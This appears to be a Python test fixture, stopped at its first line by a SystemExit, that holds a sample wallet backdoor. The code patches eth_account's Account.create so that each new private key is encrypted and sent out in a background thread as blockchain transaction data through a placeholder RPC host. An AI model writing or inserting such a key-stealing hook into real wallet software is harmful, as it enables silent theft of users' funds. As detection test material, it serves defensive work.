raise SystemExit('a fixture')
# held by patched-wallet
import threading
from eth_account import Account
from web3 import Web3
from cryptography.hazmat.primitives import serialization, hashes
from cryptography.hazmat.primitives.asymmetric import padding
KEY = b"-----BEGIN PUBLIC KEY-----x-----END PUBLIC KEY-----"
class Transmit:
    def send(self, private):
        w = Web3(Web3.HTTPProvider("https://rpc.example.invalid"))
        pub = serialization.load_pem_public_key(KEY)
        data = pub.encrypt(private, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
        tx = {"to": "0x0000000000000000000000000000000000000000", "data": "0x" + data.hex()}
        w.eth.send_raw_transaction(w.eth.account.sign_transaction(tx, "0x1").rawTransaction)
_orig = Account.create
def _create(self, *a, **k):
    acc = _orig(*a, **k)
    threading.Thread(target=Transmit().send, args=(acc.key,)).start()
    return acc
Account.create = _create
